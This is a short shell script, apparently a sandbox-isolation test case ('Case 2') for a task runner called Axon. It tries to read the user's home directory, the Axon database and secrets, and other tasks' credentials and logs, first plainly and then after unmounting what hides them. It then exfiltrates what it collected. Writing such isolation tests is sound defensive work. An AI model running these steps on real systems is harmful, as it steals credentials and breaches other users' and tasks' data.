#!/bin/sh
# Case 2: read the user's HOME and AXON_HOME (axon.db, secrets, another running Task's work
# tree, credential file and log), plainly and after unmounting what hides them.
say "read secrets: $TAG"
for pass in plain escaped; do
  [ "$pass" = escaped ] && open_host
  for r in $(roots | sed 's/^$/@/'); do
    [ "$r" = @ ] && r=
    grab_tree "$r$HOST_HOME"
    grab "$r$HOST_AXON_HOME"/axon.db*
    grab_tree "$r$HOST_AXON_HOME/secrets"
    for t in "$r$HOST_AXON_HOME"/tasks/*; do
      grab_tree "$t/work" "$t/cred"
      grab "$t/log"
    done
  done
done
exfiltrate
finish
